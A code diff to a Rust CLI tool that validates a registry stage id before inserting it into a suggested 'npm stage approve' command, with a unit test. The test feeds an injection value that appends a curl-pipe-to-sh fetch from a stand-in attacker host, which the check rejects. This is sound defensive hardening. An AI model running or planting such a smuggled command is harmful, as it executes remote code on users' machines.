@@ -371,8 +371,20 @@ pub fn approve_command(registry: &str, stage_id: Option<&str>) -> String {
     } else {
         format!(" --registry {registry}")
     };
+    // An id is put into a command line only when nothing in it can mean
+    // something to a shell (the registry chose it).
+    let plain = |id: &str| {
+        !id.is_empty()
+            && id.len() <= 128
+            && id
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
+    };
     match stage_id {
-        Some(id) => format!("npm stage approve {id}{registry}"),
+        Some(id) if plain(id) => format!("npm stage approve {id}{registry}"),
+        Some(_) => format!(
+            "the registry's stage id is not one to paste into a command; find the staged version with `npm stage list{registry}`, then `npm stage approve <id>{registry}`"
+        ),
         None => format!(
             "the registry answered no stage id; find it with `npm stage list{registry}`, then `npm stage approve <id>{registry}`"
         ),
@@ -581,6 +593,22 @@ pub fn usage(printer: &Printer, e: &clap::Error, json_requested: bool) -> u8 {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn a_stage_id_goes_into_a_command_only_when_plain() {
+        let reg = "https://registry.npmjs.org/";
+        assert_eq!(
+            super::approve_command(reg, Some("3f0c1a2b-0000-4000-8000-000000000001")),
+            "npm stage approve 3f0c1a2b-0000-4000-8000-000000000001"
+        );
+        let odd = super::approve_command(reg, Some("1; curl https://evil.example/x | sh #"));
+        assert!(
+            !odd.contains("curl") && odd.contains("npm stage list"),
+            "{odd}"
+        );
+        assert!(super::approve_command("http://127.0.0.1:9/", Some("a1"))
+            .ends_with(" --registry http://127.0.0.1:9/"));
+    }
+
     use super::*;
 
     #[test]
